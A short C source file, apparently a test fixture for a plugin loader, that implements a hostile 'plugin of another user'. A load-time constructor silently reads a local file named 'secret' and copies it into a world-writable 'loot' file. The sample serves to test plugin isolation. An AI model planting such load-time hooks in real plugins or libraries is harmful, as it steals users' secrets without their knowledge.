/* A plugin of another user. When it is loaded, it reads the file `secret` of the current directory
 * and writes the contents to the file `loot`, which it also creates if it could read nothing.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <unistd.h>

#include "sound_plugin.h"

static ssize_t read_secret(char* text, size_t buffer_size) {
  const int secret = open("secret", O_RDONLY | O_CLOEXEC);
  const ssize_t size = secret < 0 ? 0 : read(secret, text, buffer_size);
  if (secret >= 0) close(secret);
  return size < 0 ? 0 : size;
}

__attribute__((constructor)) static void copy_secret(void) {
  char text[64];
  const ssize_t size = read_secret(text, sizeof text);
  const int loot = open("loot", O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0666);
  if (loot < 0) return;
  if (write(loot, text, (size_t)size) != size) unlink("loot");
  close(loot);
}
